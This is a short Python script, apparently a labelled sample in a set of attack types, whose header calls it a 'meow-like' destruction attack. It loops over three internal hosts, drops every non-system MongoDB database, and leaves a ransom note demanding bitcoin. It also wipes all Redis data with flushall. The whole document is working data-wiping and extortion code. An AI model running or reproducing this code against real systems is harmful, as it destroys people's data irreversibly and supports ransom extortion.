# class: destruction, databases deleted and a note left; style: meow-like
import pymongo, redis, sys
for host in ("10.0.0.10", "10.0.0.11", "10.0.0.12"):
    try:
        m = pymongo.MongoClient(host, serverSelectionTimeoutMS=2000)
        for db in m.list_database_names():
            if db not in ("admin", "local"): m.drop_database(db)
        m["READ_ME"]["note"].insert_one({"text": "All your data is backed up. Pay 0.01 BTC to ..."})
        redis.Redis(host).flushall()
    except Exception as e:
        print(host, e, file=sys.stderr)
